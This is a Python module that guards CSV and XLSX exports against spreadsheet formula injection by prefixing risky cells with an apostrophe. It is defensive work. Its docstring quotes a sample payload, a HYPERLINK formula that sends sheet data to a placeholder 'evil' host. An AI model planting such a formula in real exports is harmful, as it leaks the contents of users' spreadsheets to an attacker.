"""Cells written to files people open in a spreadsheet: one guard against formula injection.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula (and a leading tab or
carriage return can hide such a start), so a name typed as `=HYPERLINK("http://evil/?"&A1,"click")`
would become a link that sends the sheet away. Every CSV and XLSX export of every app writes its cells
through `neutralise` (or `SafeCsvWriter`): such a text gets a leading apostrophe, which spreadsheets
show as text and do not evaluate (OWASP, "CSV Injection"). Numbers stay numbers: a negative net flow is
a figure, not a formula.

This module imports no app, so that any app can use it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# A text that is only a number ("-12", "+3.5") is safe as it is: spreadsheets read it as that number.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def neutralise(value: Any) -> Any:
    """The value as it is safe to write in a cell: a text that a spreadsheet would run as a formula gets
    a leading apostrophe; numbers, dates and other texts are returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through `neutralise`."""
    return [neutralise(value) for value in values]


class SafeCsvWriter:
    """`csv.writer` whose rows go through `neutralise`: the one way exports write CSV."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
